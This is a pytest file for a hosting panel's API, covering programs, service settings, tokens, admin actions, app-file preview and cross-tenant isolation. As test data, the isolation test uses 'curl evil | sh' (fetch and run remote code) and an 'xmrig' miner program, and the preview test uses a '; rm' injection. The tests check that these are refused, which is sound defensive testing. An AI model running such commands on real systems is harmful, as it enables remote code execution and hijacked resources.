"""The API routes that match the panel's actions (issue 21): custom programs, service
settings, tokens, jobs, the admin pages' actions, and the app file (export, preview)."""

from __future__ import annotations

import redis
from flask import Flask
from flask.testing import FlaskClient
from hosting import tokens
from hosting.models import Service, User
from sqlalchemy import select

from admin_web.extensions import get_session
from tests.web.fixtures import PASSWORD, World, rq_job_ids
from tests.web.test_api import Api


def settings_of(app: Flask, name: str) -> dict | None:
    with app.app_context():
        service = get_session().scalars(select(Service).where(Service.name == name)).first()
        return None if service is None else dict(service.settings)


def test_custom_programs_add_change_remove(
    app: Flask, client: FlaskClient, world: World, redis_client: redis.Redis
) -> None:
    api = Api(client, world.alice_token)
    base = f"/apps/{world.shop_id}/programs"
    body = {"name": "worker", "command": "rq worker default", "numprocs": 2}
    response = api("POST", base, json=body)
    assert response.status_code == 202, response.json
    assert response.json["job"]["title"] == "Add program worker"
    assert settings_of(app, "worker") == {"command": "rq worker default", "numprocs": 2}

    response = api("PUT", f"{base}/worker", json={"command": "rq worker high default"})
    assert response.status_code == 202 and response.json["job"]["title"] == "Change program worker"
    assert settings_of(app, "worker") == {"command": "rq worker high default"}  # replaced

    # Refusals name the field, as the panel's form does; nothing is queued for them.
    queued = len(rq_job_ids(redis_client, "host.h1"))
    response = api("PUT", f"{base}/worker", json={"command": "x", "numprocs": 99})
    assert response.status_code == 400 and response.json["error"]["field"] == "numprocs"
    response = api("PUT", f"{base}/worker", json={"name": "other", "command": "x"})
    assert response.status_code == 400 and response.json["error"]["field"] == "name"
    response = api("POST", base, json={"name": "cron", "command": "x"})
    assert response.status_code == 400 and "already" in response.json["error"]["message"]
    response = api("POST", base, json={"name": "x", "command": "y", "colour": "red"})
    assert response.status_code == 400 and response.json["error"]["field"] == "colour"
    assert api("PUT", f"{base}/app", json={"command": "x"}).status_code == 404
    assert len(rq_job_ids(redis_client, "host.h1")) == queued

    response = api("DELETE", f"{base}/worker")
    assert response.status_code == 202 and response.json["job"]["title"] == "Remove program worker"
    assert settings_of(app, "worker") is None
    assert api("DELETE", f"{base}/worker").status_code == 404


def test_service_settings_are_merged(app: Flask, client: FlaskClient, world: World) -> None:
    api = Api(client, world.alice_token)
    assert api("POST", f"/apps/{world.shop_id}/services/redis/enable").status_code == 202
    url = f"/apps/{world.shop_id}/services/redis"
    response = api("PATCH", url, json={"maxmemory_mb": 128})
    assert response.status_code == 202 and response.json["job"]["title"] == "Change Redis"
    api("PATCH", url, json={"appendonly": True})
    assert settings_of(app, "redis") == {"maxmemory_mb": 128, "appendonly": True}
    api("PATCH", url, json={"maxmemory_mb": None})  # back at the default
    assert settings_of(app, "redis") == {"appendonly": True}
    response = api("PATCH", url, json={"maxmemory_policy": "sometimes"})
    assert response.status_code == 400 and response.json["error"]["field"] == "maxmemory_policy"
    assert api("PATCH", f"/apps/{world.shop_id}/services/nope", json={}).status_code == 404


def test_tokens_list_and_revoke(app: Flask, client: FlaskClient, world: World) -> None:
    with app.app_context():
        session = get_session()
        second, second_plain = tokens.create_token(session, session.get(User, world.alice_id), "ci")
        session.commit()
        second_id = second.id
    api = Api(client, world.alice_token)
    listed = api("GET", "/tokens").json["tokens"]
    assert [t["id"] for t in listed] == [second_id, world.alice_token_id]
    assert all("hash" not in str(t) and t["revoked_at"] is None for t in listed)
    response = api("POST", f"/tokens/{second_id}/revoke")
    assert response.status_code == 200 and response.json["token"]["revoked_at"]
    assert Api(client, second_plain)("GET", "/me").status_code == 401
    # Bob's view: alice's token is not his (404), and revoking his own ends it at once.
    bob = Api(client, world.bob_token)
    assert bob("POST", f"/tokens/{world.alice_token_id}/revoke").status_code == 404
    bob_token = bob("GET", "/tokens").json["tokens"][0]["id"]
    assert bob("POST", f"/tokens/{bob_token}/revoke").status_code == 200
    assert bob("GET", "/tokens").status_code == 401


def test_jobs_list_is_scoped(client: FlaskClient, world: World) -> None:
    alice = Api(client, world.alice_token)("GET", "/jobs").json["jobs"]
    assert [job["id"] for job in alice] == [world.shop_job_id]
    response = Api(client, world.alice_token)("GET", "/jobs?limit=lots")
    assert response.status_code == 400 and response.json["error"]["field"] == "limit"


def admin_api(app: Flask, client: FlaskClient, world: World) -> Api:
    with app.app_context():
        session = get_session()
        _row, plain = tokens.create_token(session, session.get(User, world.admin_id), "ops")
        session.commit()
    return Api(client, plain)


def test_admin_actions(app: Flask, client: FlaskClient, world: World) -> None:
    members = Api(client, world.alice_token)
    for path, body in (
        ("/hosts", {"name": "h3", "apps_root": "/srv/h3"}),
        ("/tenants", {"name": "Gamma"}),
        ("/tenants/1/members", {"email": "bob@beta.example"}),
        ("/users", {"email": "eve@x.example", "password": PASSWORD}),
        (f"/users/{world.bob_id}/active", {"active": False}),
    ):
        response = members("POST", path, json=body)
        assert response.status_code == 403, path
    admin = admin_api(app, client, world)
    response = admin("POST", "/hosts", json={"name": "h3", "apps_root": "/srv/h3"})
    assert response.status_code == 201 and response.json["host"]["queue"] == "host.h3"
    response = admin("POST", "/hosts", json={"name": "h3", "apps_root": "/srv/h3"})
    assert response.status_code == 400 and response.json["error"]["field"] == "name"
    tenant = admin("POST", "/tenants", json={"name": "Gamma Ltd"}).json["tenant"]
    assert tenant["slug"] == "gamma-ltd"
    response = admin("POST", "/users", json={"email": "eve@x.example", "password": PASSWORD})
    assert response.status_code == 201 and response.json["user"]["active"] is True
    response = admin(
        "POST", f"/tenants/{tenant['id']}/members", json={"email": "eve@x.example", "role": "owner"}
    )
    assert response.status_code == 201 and response.json["member"]["role"] == "owner"
    response = admin("POST", f"/tenants/{tenant['id']}/members", json={"email": "no@x.example"})
    assert response.status_code == 400 and response.json["error"]["field"] == "email"
    assert admin("POST", "/tenants/999/members", json={"email": "x@y.z"}).status_code == 404
    # Deactivating bob ends his token's use; an admin cannot deactivate themselves.
    response = admin("POST", f"/users/{world.bob_id}/active", json={"active": False})
    assert response.status_code == 200 and response.json["user"]["active"] is False
    assert Api(client, world.bob_token)("GET", "/me").status_code == 401
    response = admin("POST", f"/users/{world.admin_id}/active", json={"active": False})
    assert response.status_code == 400 and response.json["error"]["field"] == "active"


def test_app_file_export_and_preview(client: FlaskClient, world: World) -> None:
    api = Api(client, world.alice_token)
    exported = api("GET", f"/apps/{world.shop_id}/spec").get_data(as_text=True)
    assert '[programs.cron]\ncommand = "python cron.py"' in exported
    response = api("POST", f"/apps/{world.shop_id}/spec/preview", data=exported)
    assert response.json == {"changes": [], "restarts": [], "lines": []}
    changed = exported.replace('"python cron.py"', '"python cron.py --fast"')
    response = api("POST", f"/apps/{world.shop_id}/spec/preview", data=changed)
    assert response.json["lines"] == [
        '~ programs.cron.command: "python cron.py" -> "python cron.py --fast"',
        "restarts: cron",
    ]
    response = api("POST", f"/apps/{world.shop_id}/spec/preview?file=shop.toml", data="[x")
    assert response.status_code == 400
    assert response.json["error"]["message"].startswith("shop.toml: file: not valid TOML")
    response = api("POST", f"/apps/{world.shop_id}/spec", data=b"\xff")
    assert response.status_code == 400 and response.json["error"]["field"] == "body"
    bad = changed.replace("--fast", "; rm").replace("[programs.cron]", "[programs.Cron]")
    response = api("POST", f"/apps/{world.shop_id}/spec/preview?file=shop.toml", data=bad)
    assert response.status_code == 400
    assert [each["field"] for each in response.json["error"]["errors"]] == [
        "programs.Cron",
        "programs.Cron.command",
    ]


def test_another_tenants_app_is_not_found_by_any_new_route(
    app: Flask, client: FlaskClient, world: World, redis_client: redis.Redis
) -> None:
    """Bob (tenant B) with his own valid token, against Alice's app: every route of issue 21
    answers 404, as if the app did not exist, and nothing changes or is queued."""
    bob = Api(client, world.bob_token)
    shop = f"/apps/{world.shop_id}"
    exported = Api(client, world.alice_token)("GET", f"{shop}/spec").get_data(as_text=True)
    changed = exported.replace('"python cron.py"', '"curl evil | sh"')
    queued = len(rq_job_ids(redis_client, "host.h1"))
    attempts = [
        ("GET", f"{shop}/spec", {}),
        ("POST", f"{shop}/spec/preview", {"data": changed}),
        ("POST", f"{shop}/spec", {"data": changed}),
        ("POST", f"{shop}/programs", {"json": {"name": "miner", "command": "xmrig"}}),
        ("PUT", f"{shop}/programs/cron", {"json": {"command": "curl evil | sh"}}),
        ("DELETE", f"{shop}/programs/cron", {}),
        ("PATCH", f"{shop}/services/cron", {"json": {"command": "curl evil | sh"}}),
    ]
    for method, path, body in attempts:
        response = bob(method, path, **body)
        assert response.status_code == 404, (method, path, response.status_code)
        assert "cron.py" not in response.get_data(as_text=True)
    assert settings_of(app, "cron") == {"command": "python cron.py"}
    assert settings_of(app, "miner") is None
    assert len(rq_job_ids(redis_client, "host.h1")) == queued
